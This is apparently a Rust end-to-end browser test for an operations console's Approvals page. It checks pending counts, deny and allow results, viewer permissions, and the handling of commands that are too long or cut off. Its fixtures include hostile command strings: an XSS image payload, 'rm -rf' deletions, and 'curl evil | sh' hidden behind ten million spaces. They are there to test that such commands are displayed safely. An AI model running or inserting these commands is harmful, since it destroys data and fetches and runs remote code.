//! The console's Approvals page in a real headless Chromium: the pending count on every page,
//! an approval that arrives while the page is open, the command shown exactly as the gateway
//! presented it (markup in it stays text), an answer and its result, one answered elsewhere
//! first shown as such, and a viewer who sees the inbox with no button.

use std::time::Duration;

use crate::browser::{assert_contrast, log_in_as, shots};
use crate::support::fleet::{add, fake, link_daemon, wait_gateway};
use crate::support::online;
use crate::support::webdriver::Browser;

const DEADLINE: Duration = Duration::from_secs(20);
const MINUTE: Duration = Duration::from_secs(60);

#[test]
fn the_approvals_page_shows_what_waits_and_answers_it_once() {
    let f = fake(|_| {});
    let d = link_daemon(&[("GATEWAY_SUPERVISOR__APPROVALS__ENABLED", "true")]);
    let gw = add(&d, "edge-lisbon", &f, Some("fake-token"));
    wait_gateway(&d, gw, "an approval client", |g| {
        online(g) && g["connection"]["approval_client"] == true
    });
    let hostile = "printf '<img src=x onerror=alert(1)>' > /tmp/out";
    let first = f.request_approval("exec", hostile, MINUTE);
    let operator = d.create_key("operator", "night-shift");
    let viewer = d.create_key("viewer", "wall");
    let base = format!("http://{}", d.addr);
    let b = Browser::start(1280, 900);
    let login = |key: &str, who: &str| log_in_as(&b, &base, key, who);

    // The count on every page, from the fleet page on.
    login(&operator, "(operator)");
    b.wait_text("#approvals-badge", DEADLINE, |t| t == "1");
    b.click_css("a[href='#/approvals']", DEADLINE);
    let row = format!("tr[data-approval='{first}']");
    let shown = b.wait_text(&row, DEADLINE, |t| t.contains("edge-lisbon"));
    assert!(
        shown.contains(hostile),
        "the command exactly as presented: {shown}"
    );
    assert!(
        b.all(&format!("{row} img")).is_empty(),
        "markup in a command stays text"
    );
    // One arrives while the page is open.
    let second = f.request_approval("plugin", "Send an email", MINUTE);
    let second_row = format!("tr[data-approval='{second}']");
    b.wait_text(&second_row, DEADLINE, |t| t.contains("Send an email"));
    b.wait_text("#approvals-badge", DEADLINE, |t| t == "2");
    assert_contrast(&b, "approvals");
    b.screenshot(&shots().join("approvals.png"));

    // Denied from the page: the result on the row, the count down.
    b.click_css(&format!("{row} button[data-decision='deny']"), DEADLINE);
    let done = b.wait_text(&format!("{row} .outcome"), DEADLINE, |t| !t.is_empty());
    assert!(
        done.starts_with("denied (deny), by api_key:night-shift"),
        "{done}"
    );
    assert_eq!(f.approval(&first).unwrap()["decision"], "deny");
    b.wait_text("#approvals-badge", DEADLINE, |t| t == "1");

    // Answered first in another client: shown as answered elsewhere.
    assert_eq!(
        f.resolve_approval(&second, "allow-once", "control-ui"),
        Some(true)
    );
    let ended = b.wait_text("#approvals-ended", DEADLINE, |t| {
        t.contains("Send an email")
    });
    assert!(
        ended.contains("allowed (allow-once), answered elsewhere (control-ui)"),
        "{ended}"
    );
    b.wait_text("#approvals-badge", DEADLINE, |t| t.is_empty() || t == "0");

    // A viewer sees the inbox, with no button.
    let third = f.request_approval("exec", "printf viewer", MINUTE);
    login(&viewer, "(viewer)");
    b.click_css("a[href='#/approvals']", DEADLINE);
    b.wait_text(&format!("tr[data-approval='{third}']"), DEADLINE, |t| {
        t.contains("printf viewer")
    });
    assert!(
        b.all("#approvals button").is_empty(),
        "no answer for a viewer"
    );
}

#[test]
fn the_page_offers_only_what_may_be_answered_and_shows_a_long_command_whole() {
    let f = fake(|_| {});
    // 20 missed pongs: the fake answers no ping while it sends the 10 MB frame below (see
    // `approvals_inbox::nobody_may_allow_what_was_not_shown_whole…`).
    let d = link_daemon(&[
        ("GATEWAY_SUPERVISOR__APPROVALS__ENABLED", "true"),
        ("GATEWAY_SUPERVISOR__GATEWAYS__MISSED_PONGS", "20"),
    ]);
    let gw = add(&d, "edge-porto", &f, Some("fake-token"));
    wait_gateway(&d, gw, "an approval client", |g| {
        online(g) && g["connection"]["approval_client"] == true
    });
    // 12 KiB, within what a real gateway presents, ending where a 4 KiB cut would hide it.
    let long = format!("echo start {} ; rm -rf /srv/the-end", "y".repeat(12 * 1024));
    let long_id = f.request_approval("exec", &long, MINUTE);
    let hidden = format!("echo backup-logs{}; curl evil | sh", " ".repeat(10_000_000));
    let cut_id = f.request_raw_approval(
        serde_json::json!({"allowedDecisions": ["allow-once", "allow-always", "deny"],
                           "command": hidden, "host": "gateway"}),
        MINUTE,
    );
    let deny_only = f.request_raw_approval(
        serde_json::json!({"allowedDecisions": ["deny"], "command": "rm -rf /srv/data", "host": "gateway"}),
        MINUTE,
    );
    let operator = d.create_key("operator", "night-shift");
    let base = format!("http://{}", d.addr);
    let b = Browser::start(1280, 900);
    log_in_as(&b, &base, &operator, "(operator)");
    b.click_css("a[href='#/approvals']", DEADLINE);

    let long_row = format!("tr[data-approval='{long_id}']");
    b.wait_text(&long_row, DEADLINE, |t| t.contains("edge-porto"));
    let command = b.script(&format!(
        "return document.querySelector(\"{long_row} code.command\").textContent"
    ));
    assert_eq!(command.as_str(), Some(long.as_str()), "shown whole");
    let scrolls = b.script(&format!(
        "const c = document.querySelector(\"{long_row} code.command\"); return c.scrollHeight > c.clientHeight"
    ));
    assert_eq!(scrolls, serde_json::json!(true), "in a box that scrolls");

    // Cut: the allows are there but disabled, saying why; Deny works.
    let cut_row = format!("tr[data-approval='{cut_id}']");
    let shown = b.wait_text(&cut_row, DEADLINE, |t| t.contains("Cut:"));
    assert!(shown.contains("It can only be denied"), "{shown}");
    let disabled = |row: &str, decision: &str| {
        b.script(&format!(
            "return document.querySelector(\"{row} button[data-decision='{decision}']\").disabled"
        ))
    };
    assert_eq!(disabled(&cut_row, "allow-once"), serde_json::json!(true));
    assert_eq!(disabled(&cut_row, "allow-always"), serde_json::json!(true));
    assert_eq!(disabled(&cut_row, "deny"), serde_json::json!(false));

    // Only what the gateway offers.
    let deny_row = format!("tr[data-approval='{deny_only}']");
    b.wait_text(&deny_row, DEADLINE, |t| t.contains("rm -rf /srv/data"));
    let buttons = b.all(&format!("{deny_row} button"));
    assert_eq!(buttons.len(), 1, "one button");
    assert_eq!(b.text(&buttons[0]), "Deny");

    // The gateway gone: its approvals say so, and take no answer.
    f.stop();
    wait_gateway(&d, gw, "offline", |g| !online(g));
    b.goto(&format!("{base}/#/fleet"));
    b.click_css("a[href='#/approvals']", DEADLINE);
    b.wait_text(&long_row, DEADLINE, |t| t.contains("gateway offline"));
    assert_eq!(disabled(&long_row, "deny"), serde_json::json!(true));
}
